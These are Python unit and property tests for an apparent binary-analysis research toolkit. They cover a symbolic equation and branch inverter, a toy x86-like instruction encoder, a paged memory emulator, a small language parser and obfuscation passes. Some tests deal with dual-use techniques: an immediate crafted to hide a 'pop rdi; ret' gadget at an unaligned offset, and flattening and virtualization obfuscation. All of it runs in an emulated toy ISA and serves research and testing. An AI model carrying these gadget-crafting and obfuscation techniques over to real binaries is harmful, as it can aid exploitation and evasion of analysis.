    check_inversion(bv_add(X, bv_const(5)), 42)


def test_sub_const_both_sides():
    check_inversion(bv_sub(X, bv_const(5)), 10)
    check_inversion(bv_sub(bv_const(100), X), 10)


def test_xor_chain():
    expr = bv_xor(bv_add(X, bv_const(7)), bv_const(0xFF))
    check_inversion(expr, 0x1234)


def test_not_neg():
    check_inversion(bv_not(X), 99)
    check_inversion(bv_neg(X), 99)


def test_mul_odd():
    check_inversion(bv_mul(X, bv_const(33)), 66)
    check_inversion(bv_mul(X, bv_const(33)), 67)  # still solvable mod 2^64


def test_mul_even_rejected():
    assert solve_for(bv_mul(X, bv_const(2)), 3) is None  # odd target via *2


def test_shl_aligned_ok_unaligned_rejected():
    check_inversion(bv_shl(X, 4), 0x160)
    assert solve_for(bv_shl(X, 4), 0x161) is None


def test_constant_expression_rejected():
    assert solve_for(bv_const(5), 5) is None


def test_two_variable_rejected():
    assert solve_for(bv_add(X, bv_sym("y")), 1) is None


@given(a=U64, b=U64, t=U64)
def test_property_affine_inversion(a, b, t):
    expr = bv_add(bv_mul(X, bv_const(a | 1)), bv_const(b))
    check_inversion(expr, t)


@given(consts=st.lists(U64, min_size=1, max_size=6), t=U64)
def test_property_random_invertible_chains(consts, t):
    expr = X
    for i, c in enumerate(consts):
        kind = i % 4
        if kind == 0:
            expr = bv_add(expr, bv_const(c))
        elif kind == 1:
            expr = bv_xor(expr, bv_const(c))
        elif kind == 2:
            expr = bv_not(expr)
        else:
            expr = bv_sub(bv_const(c), expr)
    check_inversion(expr, t)
