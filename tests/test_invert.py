"""Tests for the syntactic equation inverter and Jcc inversion."""

import itertools

import pytest
from hypothesis import given, strategies as st

from repro.emulator.cpu import COND_PREDICATES, _flags_sub
from repro.isa.instructions import COND_JUMPS, Op
from repro.isa.registers import Flag
from repro.symex.expr import (
    MASK64,
    bv_add,
    bv_const,
    bv_mul,
    bv_neg,
    bv_not,
    bv_shl,
    bv_sub,
    bv_sym,
    bv_xor,
    eval_bv,
)
from repro.symex.invert import JCC_INVERSE, invert_jcc, solve_for

X = bv_sym("x")
U64 = st.integers(min_value=0, max_value=MASK64)
S64 = st.integers(min_value=-(1 << 63), max_value=(1 << 63) - 1)


def _all_flag_states():
    """All 16 assignments of (ZF, SF, CF, OF)."""
    for zf, sf, cf, of in itertools.product((False, True), repeat=4):
        yield {Flag.ZF: zf, Flag.SF: sf, Flag.CF: cf, Flag.OF: of}


def check_inversion(expr, target):
    result = solve_for(expr, target)
    assert result is not None
    name, value = result
    assert name == "x"
    assert eval_bv(expr, {"x": value}) == target & MASK64
    return value


def test_identity():
    assert check_inversion(X, 42) == 42


def test_add_const():
    check_inversion(bv_add(X, bv_const(5)), 42)


def test_sub_const_both_sides():
    check_inversion(bv_sub(X, bv_const(5)), 10)
    check_inversion(bv_sub(bv_const(100), X), 10)


def test_xor_chain():
    expr = bv_xor(bv_add(X, bv_const(7)), bv_const(0xFF))
    check_inversion(expr, 0x1234)


def test_not_neg():
    check_inversion(bv_not(X), 99)
    check_inversion(bv_neg(X), 99)


def test_mul_odd():
    check_inversion(bv_mul(X, bv_const(33)), 66)
    check_inversion(bv_mul(X, bv_const(33)), 67)  # still solvable mod 2^64


def test_mul_even_rejected():
    assert solve_for(bv_mul(X, bv_const(2)), 3) is None  # odd target via *2


def test_shl_aligned_ok_unaligned_rejected():
    check_inversion(bv_shl(X, 4), 0x160)
    assert solve_for(bv_shl(X, 4), 0x161) is None


def test_constant_expression_rejected():
    assert solve_for(bv_const(5), 5) is None


def test_two_variable_rejected():
    assert solve_for(bv_add(X, bv_sym("y")), 1) is None


@given(a=U64, b=U64, t=U64)
def test_property_affine_inversion(a, b, t):
    expr = bv_add(bv_mul(X, bv_const(a | 1)), bv_const(b))
    check_inversion(expr, t)


@given(consts=st.lists(U64, min_size=1, max_size=6), t=U64)
def test_property_random_invertible_chains(consts, t):
    expr = X
    for i, c in enumerate(consts):
        kind = i % 4
        if kind == 0:
            expr = bv_add(expr, bv_const(c))
        elif kind == 1:
            expr = bv_xor(expr, bv_const(c))
        elif kind == 2:
            expr = bv_not(expr)
        else:
            expr = bv_sub(bv_const(c), expr)
    check_inversion(expr, t)


# -- conditional-jump inversion -------------------------------------------


def test_invert_jcc_covers_every_conditional_jump():
    assert set(JCC_INVERSE) == set(COND_JUMPS) == set(COND_PREDICATES)


@pytest.mark.parametrize("op", sorted(COND_JUMPS, key=lambda o: o.value))
def test_invert_jcc_round_trip(op):
    inverse = invert_jcc(op)
    assert inverse in COND_JUMPS
    assert inverse is not op
    assert invert_jcc(inverse) is op


@pytest.mark.parametrize("op", sorted(COND_JUMPS, key=lambda o: o.value))
def test_invert_jcc_predicate_complement(op):
    """For every flag assignment, exactly one of op / invert(op) fires."""
    taken = COND_PREDICATES[op]
    inverse_taken = COND_PREDICATES[invert_jcc(op)]
    for flags in _all_flag_states():
        assert taken(flags) != inverse_taken(flags)


def test_invert_jcc_rejects_non_conditionals():
    for op in (Op.RET, Op.JMP_REL, Op.JMP_R, Op.CALL_R, Op.SYSCALL):
        with pytest.raises(ValueError):
            invert_jcc(op)


@given(a=S64, b=S64)
def test_invert_jcc_complement_on_cmp_flags(a, b):
    """Complementarity on *reachable* flag states too: flags as a real
    ``cmp a, b`` would set them, over signed and unsigned orderings."""
    flags = _flags_sub(a & MASK64, b & MASK64)
    for op in COND_JUMPS:
        assert COND_PREDICATES[op](flags) != COND_PREDICATES[invert_jcc(op)](flags)
    # Sanity: the CMP-derived predicates mean what their names say.
    assert COND_PREDICATES[Op.JE](flags) == ((a & MASK64) == (b & MASK64))
    assert COND_PREDICATES[Op.JL](flags) == (a < b)
    assert COND_PREDICATES[Op.JB](flags) == ((a & MASK64) < (b & MASK64))
    assert COND_PREDICATES[Op.JLE](flags) == (a <= b)
    assert COND_PREDICATES[Op.JBE](flags) == ((a & MASK64) <= (b & MASK64))
    assert COND_PREDICATES[Op.JS](flags) == (((a - b) & MASK64) >> 63 == 1)
