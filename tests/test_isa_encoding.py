"""Unit and property tests for instruction encode/decode round-trips."""

import pytest
from hypothesis import given, strategies as st

from repro.isa import (
    DecodeError,
    Instruction,
    Op,
    OperandLayout,
    OP_TABLE,
    Reg,
    decode,
    decode_all,
    decode_window,
    encode,
    encode_program,
)

REGS = list(Reg)


def _sample_instruction(op: Op, dst=Reg.RAX, src=Reg.RBX, base=Reg.RBP, disp=-8, imm=5, rel=16):
    layout = OP_TABLE[op].layout
    kwargs = {}
    if layout in (OperandLayout.REG, OperandLayout.REG_IN_OPCODE):
        kwargs["dst"] = dst
    elif layout is OperandLayout.REG_REG:
        kwargs.update(dst=dst, src=src)
    elif layout is OperandLayout.REG_IMM64:
        kwargs.update(dst=dst, imm=imm)
    elif layout is OperandLayout.REG_IMM32:
        kwargs.update(dst=dst, imm=imm)
    elif layout is OperandLayout.REG_IMM8:
        kwargs.update(dst=dst, imm=imm & 0xFF)
    elif layout is OperandLayout.REG_MEM:
        kwargs.update(dst=dst, base=base, disp=disp)
    elif layout is OperandLayout.MEM_REG:
        kwargs.update(base=base, src=src, disp=disp)
    elif layout is OperandLayout.IMM64:
        kwargs["imm"] = imm
    elif layout is OperandLayout.REL32:
        kwargs["rel"] = rel
    elif layout is OperandLayout.MEM:
        kwargs.update(base=base, disp=disp)
    return Instruction(op=op, **kwargs)


@pytest.mark.parametrize("op", list(Op))
def test_roundtrip_every_opcode(op):
    insn = _sample_instruction(op)
    data = encode(insn)
    assert len(data) == OP_TABLE[op].size
    back = decode(data)
    assert back.op == insn.op
    assert back.dst == insn.dst
    assert back.src == insn.src
    assert back.base == insn.base
    assert back.disp == insn.disp
    assert back.imm == insn.imm
    assert back.rel == insn.rel


def test_decode_rejects_invalid_opcode():
    # 0x0f is unassigned (0xff aliases to the one-byte pop family).
    with pytest.raises(DecodeError):
        decode(b"\x0f\x00\x00")


def test_alias_bytes_decode_as_pop():
    """High-bit aliases: 0xff decodes as `pop r15`, like x86's dense
    one-byte encodings — the root of unaligned gadget richness."""
    insn = decode(b"\xff")
    assert insn.op == Op.POP1 and insn.dst == Reg.R15 and insn.size == 1
    insn = decode(b"\x77")
    assert insn.op == Op.POP1 and insn.dst == Reg.RDI


def test_decode_rejects_truncated():
    insn = Instruction(op=Op.MOV_RI, dst=Reg.RAX, imm=1)
    data = encode(insn)
    with pytest.raises(DecodeError):
        decode(data[:-1])


def test_decode_rejects_offset_beyond_end():
    with pytest.raises(DecodeError):
        decode(b"\x00", 5)


def test_decode_rejects_bad_reg_nibble():
    # REG layout requires a zero high nibble.
    bad = bytes([int(Op.POP_R), 0x53])
    with pytest.raises(DecodeError):
        decode(bad)


def test_imm32_range_check():
    insn = Instruction(op=Op.ADD_RI, dst=Reg.RAX, imm=1 << 40)
    with pytest.raises(ValueError):
        encode(insn)


def test_rel32_target_computation():
    insn = decode(encode(Instruction(op=Op.JMP_REL, rel=0x10, addr=0x400000)), addr=0x400000)
    assert insn.target == 0x400000 + insn.size + 0x10


def test_negative_disp_roundtrip():
    insn = Instruction(op=Op.LOAD, dst=Reg.RAX, base=Reg.RBP, disp=-0x20)
    assert decode(encode(insn)).disp == -0x20


def test_imm64_roundtrip_large():
    value = 0xDEADBEEFCAFEBABE
    insn = Instruction(op=Op.MOV_RI, dst=Reg.R15, imm=value)
    assert decode(encode(insn)).imm == value


def test_decode_all_stream():
    insns = [
        Instruction(op=Op.PUSH_R, dst=Reg.RBP),
        Instruction(op=Op.MOV_RR, dst=Reg.RBP, src=Reg.RSP),
        Instruction(op=Op.RET),
    ]
    stream = encode_program(insns)
    out = decode_all(stream, base_addr=0x400000)
    assert [i.op for i in out] == [Op.PUSH_R, Op.MOV_RR, Op.RET]
    assert out[0].addr == 0x400000
    assert out[1].addr == 0x400000 + 2
    assert out[2].addr == 0x400000 + 4


def test_decode_window_stops_at_bad_bytes():
    stream = encode(Instruction(op=Op.RET)) + b"\xee\xee"
    insns = list(decode_window(stream, 0))
    assert len(insns) == 1
    assert insns[0].op == Op.RET


def test_unaligned_decode_inside_imm64_yields_other_instructions():
    # An imm64 crafted to contain a `pop rdi; ret` when decoded at +2.
    hidden = encode(Instruction(op=Op.POP_R, dst=Reg.RDI)) + encode(Instruction(op=Op.RET))
    imm = int.from_bytes(hidden + b"\x00" * (8 - len(hidden)), "little")
    outer = encode(Instruction(op=Op.MOV_RI, dst=Reg.RAX, imm=imm))
    inner = list(decode_window(outer, 2))
    assert inner[0].op == Op.POP_R and inner[0].dst == Reg.RDI
    assert inner[1].op == Op.RET


@given(
    op=st.sampled_from(list(Op)),
    dst=st.sampled_from(REGS),
    src=st.sampled_from(REGS),
    base=st.sampled_from(REGS),
    disp=st.integers(min_value=-(1 << 31), max_value=(1 << 31) - 1),
    imm=st.integers(min_value=0, max_value=(1 << 64) - 1),
    rel=st.integers(min_value=-(1 << 31), max_value=(1 << 31) - 1),
)
def test_property_roundtrip(op, dst, src, base, disp, imm, rel):
    layout = OP_TABLE[op].layout
    if layout is OperandLayout.REG_IMM32:
        imm = imm % (1 << 31)  # keep in range
    if layout is OperandLayout.REG_IMM8:
        imm &= 0xFF
    insn = _sample_instruction(op, dst=dst, src=src, base=base, disp=disp, imm=imm, rel=rel)
    assert decode(encode(insn)).op == op


@given(data=st.binary(min_size=0, max_size=64))
def test_property_decoder_never_crashes(data):
    """Arbitrary bytes either decode or raise DecodeError — never crash."""
    try:
        insn = decode(data)
        assert 1 <= insn.size <= 10
    except DecodeError:
        pass


@given(data=st.binary(min_size=1, max_size=128), offset=st.integers(0, 127))
def test_property_decode_window_terminates(data, offset):
    insns = list(decode_window(data, offset % max(len(data), 1)))
    assert len(insns) <= 64
