"""Property tests for repro.isa.encoding (fuzz satellite).

Exhaustive encode→decode round-trips over every instruction form and
operand width, alias-opcode canonicalization, and ``decode_window``
self-consistency at unaligned offsets of adversarial byte strings.
"""

import random

import pytest

from repro.isa.encoding import DecodeError, decode, decode_window, encode
from repro.isa.instructions import OP_TABLE, Instruction, Op, OperandLayout, opcode_operands
from repro.isa.registers import ALL_REGS, Reg

IMM64_SAMPLES = [0, 1, 0x7F, 0x80, 0xFF, 0x1234, 0xFFFF_FFFF, 1 << 63, (1 << 64) - 1]
IMM32_SAMPLES = [0, 1, 0x7F, -1, -0x80, 0x7FFF_FFFF, -(1 << 31)]
IMM8_SAMPLES = [0, 1, 7, 63, 127, 255]
REL32_SAMPLES = [0, 1, -1, 5, -5, 0x7FFF_FFFF, -(1 << 31)]
DISP_SAMPLES = [0, 8, -8, 0x100, -0x100, 0x7FFF_FFFF, -(1 << 31)]


def _samples_for(op: Op):
    """Every operand combination worth testing for one opcode."""
    layout = OP_TABLE[op].layout
    if layout is OperandLayout.NONE:
        return [Instruction(op=op)]
    if layout in (OperandLayout.REG, OperandLayout.REG_IN_OPCODE):
        return [Instruction(op=op, dst=r) for r in ALL_REGS]
    if layout is OperandLayout.REG_REG:
        return [Instruction(op=op, dst=a, src=b) for a in ALL_REGS for b in ALL_REGS]
    if layout is OperandLayout.REG_IMM64:
        return [Instruction(op=op, dst=r, imm=v) for r in ALL_REGS for v in IMM64_SAMPLES]
    if layout is OperandLayout.REG_IMM32:
        return [Instruction(op=op, dst=r, imm=v) for r in ALL_REGS for v in IMM32_SAMPLES]
    if layout is OperandLayout.REG_IMM8:
        return [Instruction(op=op, dst=r, imm=v) for r in ALL_REGS for v in IMM8_SAMPLES]
    if layout is OperandLayout.REG_MEM:
        return [
            Instruction(op=op, dst=a, base=b, disp=d)
            for a in ALL_REGS
            for b in ALL_REGS
            for d in DISP_SAMPLES[:3]
        ] + [Instruction(op=op, dst=Reg.RAX, base=Reg.RBX, disp=d) for d in DISP_SAMPLES]
    if layout is OperandLayout.MEM_REG:
        return [
            Instruction(op=op, base=b, src=s, disp=d)
            for b in ALL_REGS
            for s in ALL_REGS
            for d in DISP_SAMPLES[:3]
        ] + [Instruction(op=op, base=Reg.RBX, src=Reg.RAX, disp=d) for d in DISP_SAMPLES]
    if layout is OperandLayout.IMM64:
        return [Instruction(op=op, imm=v) for v in IMM64_SAMPLES]
    if layout is OperandLayout.REL32:
        return [Instruction(op=op, rel=v) for v in REL32_SAMPLES]
    if layout is OperandLayout.MEM:
        return [Instruction(op=op, base=b, disp=d) for b in ALL_REGS for d in DISP_SAMPLES]
    raise AssertionError(f"unhandled layout {layout}")


@pytest.mark.parametrize("op", list(Op), ids=lambda op: op.name)
def test_encode_decode_roundtrip_exhaustive(op):
    """encode→decode is the identity (up to address) for every form."""
    for insn in _samples_for(op):
        blob = encode(insn)
        assert len(blob) == insn.size == OP_TABLE[op].size
        back = decode(blob, 0)
        assert opcode_operands(back) == opcode_operands(insn), insn


@pytest.mark.parametrize("op", list(Op), ids=lambda op: op.name)
def test_alias_opcode_decodes_canonically(op):
    """Setting the opcode high bit must not change the decode, and
    re-encoding an alias yields the canonical low form."""
    for insn in _samples_for(op)[:24]:
        blob = encode(insn)
        alias = bytes([blob[0] | 0x80]) + blob[1:]
        back = decode(alias, 0)
        assert opcode_operands(back) == opcode_operands(insn)
        assert encode(back) == blob  # canonical form restored


def test_decode_rejects_bad_reg_high_nibble():
    """REG-layout operand bytes with a nonzero high nibble are invalid
    (this is what makes unaligned decoding terminate)."""
    blob = bytearray(encode(Instruction(op=Op.INC_R, dst=Reg.RAX)))
    blob[1] |= 0x10
    with pytest.raises(DecodeError):
        decode(bytes(blob), 0)


def test_decode_truncated_raises():
    blob = encode(Instruction(op=Op.MOV_RI, dst=Reg.RAX, imm=0x1122334455667788))
    for cut in range(1, len(blob)):
        with pytest.raises(DecodeError):
            decode(blob[:cut], 0)


def test_imm_out_of_range_rejected():
    with pytest.raises(ValueError):
        encode(Instruction(op=Op.ADD_RI, dst=Reg.RAX, imm=1 << 31))
    with pytest.raises(ValueError):
        encode(Instruction(op=Op.SHL_RI, dst=Reg.RAX, imm=256))
    with pytest.raises(ValueError):
        encode(Instruction(op=Op.JMP_REL, rel=1 << 31))


def test_decode_window_unaligned_self_consistency():
    """At every (unaligned) offset of adversarial byte strings, the
    window chain is contiguous and agrees with pointwise decode."""
    rng = random.Random(1234)
    ops = [int(op) for op in Op]
    for _ in range(40):
        data = bytearray(rng.getrandbits(8) for _ in range(72))
        for _ in range(18):
            pos = rng.randrange(len(data))
            data[pos] = rng.choice(ops) | (0x80 if rng.random() < 0.5 else 0)
        data = bytes(data)
        for off in range(len(data)):
            cursor = off
            for insn in decode_window(data, off, base_addr=0, max_insns=10_000):
                assert insn.addr == cursor
                point = decode(data, cursor)
                assert opcode_operands(point) == opcode_operands(insn)
                assert insn.size == point.size
                cursor += insn.size
            # The chain must stop only at a decode failure or the end.
            if cursor < len(data):
                with pytest.raises(DecodeError):
                    decode(data, cursor)


def test_canonical_reencode_matches_bytes():
    """encode(decode(data, off)) reproduces the canonical bytes for
    every decodable offset of random data (the fuzzer's roundtrip
    oracle, pinned here as a property test)."""
    rng = random.Random(99)
    for _ in range(30):
        data = bytes(rng.getrandbits(8) for _ in range(64))
        for off in range(len(data)):
            try:
                insn = decode(data, off)
            except DecodeError:
                continue
            canonical = bytes([data[off] & 0x7F]) + data[off + 1 : off + insn.size]
            assert encode(insn) == canonical
