"""Tests for the MC lexer and parser."""

import pytest

from repro.lang import (
    Assign,
    Binary,
    Call,
    For,
    If,
    Index,
    IntLit,
    LexError,
    ParseError,
    Return,
    StrLit,
    Unary,
    While,
    parse,
    tokenize,
)


def test_tokenize_basic():
    tokens = tokenize("u64 x = 42;")
    kinds = [t.kind for t in tokens]
    assert kinds == ["kw", "ident", "op", "int", "op", "eof"]
    assert tokens[3].value == 42


def test_tokenize_hex_and_char():
    tokens = tokenize("0xff 'A' '\\n'")
    assert tokens[0].value == 0xFF
    assert tokens[1].value == 65
    assert tokens[2].value == 10


def test_tokenize_string_escapes():
    (tok, _) = tokenize('"a\\n\\x41\\0"')
    assert tok.bytes_value == b"a\nA\x00"


def test_tokenize_comments():
    tokens = tokenize("1 // comment\n/* block\ncomment */ 2")
    values = [t.value for t in tokens if t.kind == "int"]
    assert values == [1, 2]


def test_unterminated_string_raises():
    with pytest.raises(LexError):
        tokenize('"abc')


def test_unterminated_block_comment_raises():
    with pytest.raises(LexError):
        tokenize("/* nope")


def test_parse_function_and_params():
    prog = parse("u64 add(u64 a, u64 b) { return a + b; }")
    fn = prog.function("add")
    assert [p.name for p in fn.params] == ["a", "b"]
    (ret,) = fn.body
    assert isinstance(ret, Return)
    assert isinstance(ret.value, Binary) and ret.value.op == "+"


def test_parse_globals():
    prog = parse("u64 g = 7; u8 buf[32]; u64 main() { return 0; }")
    assert prog.globals[0].name == "g"
    assert isinstance(prog.globals[0].init, IntLit)
    assert prog.globals[1].type.kind == "array"
    assert prog.globals[1].type.count == 32


def test_precedence():
    prog = parse("u64 main() { return 1 + 2 * 3 == 7; }")
    (ret,) = prog.function("main").body
    assert ret.value.op == "=="
    assert ret.value.lhs.op == "+"
    assert ret.value.lhs.rhs.op == "*"


def test_parse_if_else_chain():
    prog = parse(
        """
        u64 main() {
            if (1) { return 1; }
            else if (2) { return 2; }
            else { return 3; }
        }
        """
    )
    (stmt,) = prog.function("main").body
    assert isinstance(stmt, If)
    assert isinstance(stmt.otherwise[0], If)


def test_parse_while_and_for():
    prog = parse(
        """
        u64 main() {
            u64 s = 0;
            for (u64 i = 0; i < 10; i++) { s += i; }
            while (s > 5) { s--; }
            return s;
        }
        """
    )
    body = prog.function("main").body
    assert isinstance(body[1], For)
    assert isinstance(body[2], While)


def test_compound_assignment_desugars():
    prog = parse("u64 main() { u64 x = 1; x += 2; return x; }")
    stmt = prog.function("main").body[1]
    assert isinstance(stmt.expr, Assign)
    assert isinstance(stmt.expr.value, Binary) and stmt.expr.value.op == "+"


def test_increment_desugars():
    prog = parse("u64 main() { u64 x = 0; ++x; x++; return x; }")
    for stmt in prog.function("main").body[1:3]:
        assert isinstance(stmt.expr, Assign)


def test_pointers_and_indexing():
    prog = parse(
        """
        u64 main() {
            u8 buf[8];
            u8* p = buf;
            p[0] = 65;
            *p = 66;
            return buf[0];
        }
        """
    )
    body = prog.function("main").body
    assert isinstance(body[2].expr.target, Index)
    assert isinstance(body[3].expr.target, Unary)


def test_string_literal_expression():
    prog = parse('u64 main() { print_str("hi"); return 0; }')
    call = prog.function("main").body[0].expr
    assert isinstance(call, Call)
    assert isinstance(call.args[0], StrLit)
    assert call.args[0].value == b"hi"


def test_address_of():
    prog = parse("u64 g; u64 main() { u64* p = &g; return *p; }")
    decl = prog.function("main").body[0]
    assert isinstance(decl.init, Unary) and decl.init.op == "&"


def test_logical_operators():
    prog = parse("u64 main() { return 1 && 0 || 1; }")
    (ret,) = prog.function("main").body
    assert ret.value.op == "||"


def test_parse_error_missing_semicolon():
    with pytest.raises(ParseError):
        parse("u64 main() { return 0 }")


def test_parse_error_bad_toplevel():
    with pytest.raises(ParseError):
        parse("return 0;")


def test_parse_error_call_on_non_name():
    with pytest.raises(ParseError):
        parse("u64 main() { return (1)(2); }")
