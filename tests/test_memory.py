"""Property and unit tests for the paged memory model."""

import pytest
from hypothesis import given, strategies as st

from repro.emulator.memory import (
    Memory,
    MemoryFault,
    PAGE_SIZE,
    PERM_R,
    PERM_W,
    PERM_X,
)

BASE = 0x10000


def fresh(perms=PERM_R | PERM_W, size=4 * PAGE_SIZE):
    mem = Memory()
    mem.map(BASE, size, perms)
    return mem


def test_read_back_write():
    mem = fresh()
    mem.write(BASE + 10, b"hello")
    assert mem.read(BASE + 10, 5) == b"hello"


def test_unwritten_memory_reads_zero():
    mem = fresh()
    assert mem.read(BASE, 16) == b"\x00" * 16


def test_cross_page_write_and_read():
    mem = fresh()
    addr = BASE + PAGE_SIZE - 3
    mem.write(addr, b"ABCDEF")
    assert mem.read(addr, 6) == b"ABCDEF"


def test_unmapped_read_faults():
    mem = fresh()
    with pytest.raises(MemoryFault):
        mem.read(BASE - 1, 1)
    with pytest.raises(MemoryFault):
        mem.read(BASE + 4 * PAGE_SIZE, 1)


def test_write_permission_enforced():
    mem = fresh(perms=PERM_R)
    with pytest.raises(MemoryFault):
        mem.write(BASE, b"x")
    assert mem.read(BASE, 1) == b"\x00"


def test_execute_permission_enforced():
    mem = fresh(perms=PERM_R | PERM_W)
    with pytest.raises(MemoryFault):
        mem.read(BASE, 1, execute=True)


def test_write_initial_ignores_w_permission():
    mem = fresh(perms=PERM_R | PERM_X)
    mem.write_initial(BASE, b"\x01\x02")
    assert mem.read(BASE, 2) == b"\x01\x02"


def test_protect_flips_single_page():
    mem = fresh(perms=PERM_R)
    mem.protect(BASE, 1, PERM_R | PERM_W)
    mem.write(BASE + 5, b"y")  # first page now writable
    with pytest.raises(MemoryFault):
        mem.write(BASE + PAGE_SIZE, b"z")  # second page untouched


def test_protect_unmapped_faults():
    mem = fresh()
    with pytest.raises(MemoryFault):
        mem.protect(BASE + 64 * PAGE_SIZE, 1, PERM_R)


def test_exec_write_generation_counter():
    mem = Memory()
    mem.map(BASE, PAGE_SIZE, PERM_R | PERM_W | PERM_X)
    mem.map(BASE + PAGE_SIZE, PAGE_SIZE, PERM_R | PERM_W)
    gen = mem.exec_write_gen
    mem.write(BASE + PAGE_SIZE, b"a")  # non-executable page: no bump
    assert mem.exec_write_gen == gen
    mem.write(BASE, b"a")  # executable page: invalidates insn caches
    assert mem.exec_write_gen > gen


def test_u64_and_u8_accessors():
    mem = fresh()
    mem.write_u64(BASE, 0x1122334455667788)
    assert mem.read_u64(BASE) == 0x1122334455667788
    assert mem.read_u8(BASE) == 0x88  # little-endian
    mem.write_u8(BASE + 1, 0xFF)
    assert mem.read_u64(BASE) == 0x112233445566FF88


def test_read_cstring():
    mem = fresh()
    mem.write(BASE, b"/bin/sh\x00junk")
    assert mem.read_cstring(BASE) == b"/bin/sh"
    with pytest.raises(MemoryFault):
        # No terminator within the window.
        mem.write(BASE, b"A" * 64)
        mem.read_cstring(BASE, max_len=8)


def test_mappings_listing():
    mem = fresh()
    (region,) = mem.mappings()
    assert region.start == BASE
    assert mem.is_mapped(BASE)
    assert not mem.is_mapped(BASE - PAGE_SIZE)
    assert mem.perms_at(BASE) == (PERM_R | PERM_W)


@given(
    chunks=st.lists(
        st.tuples(
            st.integers(min_value=0, max_value=3 * PAGE_SIZE),
            st.binary(min_size=1, max_size=64),
        ),
        min_size=1,
        max_size=16,
    )
)
def test_property_writes_then_reads_match_reference(chunks):
    """The paged memory behaves exactly like one flat bytearray."""
    mem = fresh()
    reference = bytearray(4 * PAGE_SIZE)
    for offset, data in chunks:
        mem.write(BASE + offset, data)
        reference[offset : offset + len(data)] = data
    for offset, data in chunks:
        lo = max(0, offset - 8)
        hi = min(len(reference), offset + len(data) + 8)
        assert mem.read(BASE + lo, hi - lo) == bytes(reference[lo:hi])


@given(
    value=st.integers(min_value=0, max_value=(1 << 64) - 1),
    offset=st.integers(min_value=0, max_value=2 * PAGE_SIZE),
)
def test_property_u64_roundtrip(value, offset):
    mem = fresh()
    mem.write_u64(BASE + offset, value)
    assert mem.read_u64(BASE + offset) == value


# -- readable_run ------------------------------------------------------------


def test_readable_run_within_one_page():
    mem = fresh(size=PAGE_SIZE)
    assert mem.readable_run(BASE, 16) == 16
    assert mem.readable_run(BASE + 100, PAGE_SIZE) == PAGE_SIZE - 100


def test_readable_run_crosses_pages_and_stops_at_unmapped():
    mem = fresh(size=2 * PAGE_SIZE)
    assert mem.readable_run(BASE + 0x100, 1 << 40) == 2 * PAGE_SIZE - 0x100
    assert mem.readable_run(BASE, 3 * PAGE_SIZE) == 2 * PAGE_SIZE


def test_readable_run_unreadable_or_empty():
    mem = fresh(perms=PERM_W, size=PAGE_SIZE)  # mapped but not readable
    assert mem.readable_run(BASE, 10) == 0
    assert mem.readable_run(0xDEAD000, 10) == 0  # unmapped
    assert Memory().readable_run(0, 10) == 0
    readable = fresh(size=PAGE_SIZE)
    assert readable.readable_run(BASE, 0) == 0
    assert readable.readable_run(BASE, -5) == 0


def test_readable_run_never_allocates_pages():
    mem = fresh(size=4 * PAGE_SIZE)
    mem.readable_run(BASE, 1 << 40)
    assert mem._pages == {}, "permission walk must not materialize pages"
