"""Tests for the obfuscation passes.

The master invariant: every configuration is semantics-preserving —
the obfuscated binary produces the same exit status and stdout as the
original on the same inputs.  Structural tests then confirm each pass
actually injects what it claims (junk blocks, dispatchers, bytecode...).
"""

import pytest

from repro.compiler import lower_program
from repro.emulator import run_image
from repro.lang import parse
from repro.obfuscation import (
    CONFIGS,
    LLVM_OBF,
    NONE,
    BogusControlFlow,
    ControlFlowFlattening,
    EncodeData,
    InstructionSubstitution,
    Virtualization,
    build_program,
)
from repro.obfuscation.opaque import GENERATORS
from repro.compiler.ir import IRFunction

# A program exercising arithmetic, branching, loops, arrays, strings,
# recursion, globals, and calls — a worst case for pass bugs.
TEST_PROGRAM = """
u64 total = 0;
u64 table[4];

u64 gcd(u64 a, u64 b) {
    while (b != 0) {
        u64 t = a % b;
        a = b;
        b = t;
    }
    return a;
}

u64 fib(u64 n) {
    if (n < 2) { return n; }
    return fib(n - 1) + fib(n - 2);
}
// fib(5) not fib(5): the Tigress config interprets *bytecode* under a
// flattened interpreter, so each source op costs hundreds of steps.

u64 hash_str(u8* s) {
    u64 h = 5381;
    u64 i = 0;
    while (s[i] != 0) {
        h = h * 33 + s[i];
        i++;
    }
    return h;
}

u64 main() {
    for (u64 i = 0; i < 4; i++) {
        table[i] = i * i + 3;
    }
    u64 acc = 0;
    for (u64 i = 0; i < 4; i++) {
        if (table[i] % 2 == 0) { acc += table[i]; }
        else { acc ^= table[i]; }
    }
    total = gcd(462, 1071) + fib(5) + (hash_str("nfl") & 0xFF) + acc;
    print(total);
    print_str("done\\n");
    return total % 251;
}
"""

EXPECTED_STATUS, EXPECTED_OUT = None, None


def run_config(config, seed=1, step_limit=30_000_000):
    program = build_program(TEST_PROGRAM, config, seed=seed)
    return run_image(program.image, step_limit=step_limit)


@pytest.fixture(scope="module")
def baseline():
    return run_config(NONE)


@pytest.mark.parametrize("config_name", sorted(CONFIGS))
def test_semantics_preserved(config_name, baseline):
    status, out = run_config(CONFIGS[config_name])
    assert (status, out) == baseline, f"{config_name} changed program behaviour"


@pytest.mark.parametrize("seed", [0, 1, 2, 3])
def test_semantics_preserved_across_seeds(seed, baseline):
    status, out = run_config(LLVM_OBF, seed=seed)
    assert (status, out) == baseline


def test_obfuscation_grows_code():
    plain = build_program(TEST_PROGRAM, NONE)
    for name in ("llvm_obf", "tigress"):
        obf = build_program(TEST_PROGRAM, CONFIGS[name], seed=1)
        assert len(obf.image.text.data) > len(plain.image.text.data), name


def test_llvm_obf_adds_conditional_jumps():
    from repro.isa.instructions import COND_JUMPS

    def count_cond(program):
        insns = decode_all_safe(program.image.text.data)
        return sum(1 for i in insns if i.op in COND_JUMPS)

    plain = build_program(TEST_PROGRAM, NONE)
    obf = build_program(TEST_PROGRAM, LLVM_OBF, seed=1)
    assert count_cond(obf) > count_cond(plain) * 2


def decode_all_safe(data):
    from repro.isa import disassemble

    return disassemble(data)


# ---------------------------------------------------------------------------
# Per-pass structural tests
# ---------------------------------------------------------------------------


def _module_for(source=TEST_PROGRAM):
    return lower_program(parse(source))


def test_substitution_rewrites_binops():
    module = _module_for("u64 main() { u64 a = 3; u64 b = 5; return a + (a ^ b); }")
    before = sum(len(b.instrs) for b in module.functions["main"].blocks.values())
    InstructionSubstitution(seed=1, probability=1.0).run(module)
    after = sum(len(b.instrs) for b in module.functions["main"].blocks.values())
    assert after > before


def test_substitution_rounds_compound():
    module1 = _module_for("u64 main() { u64 a = 3; return a + 5; }")
    module2 = _module_for("u64 main() { u64 a = 3; return a + 5; }")
    InstructionSubstitution(seed=1, probability=1.0, rounds=1).run(module1)
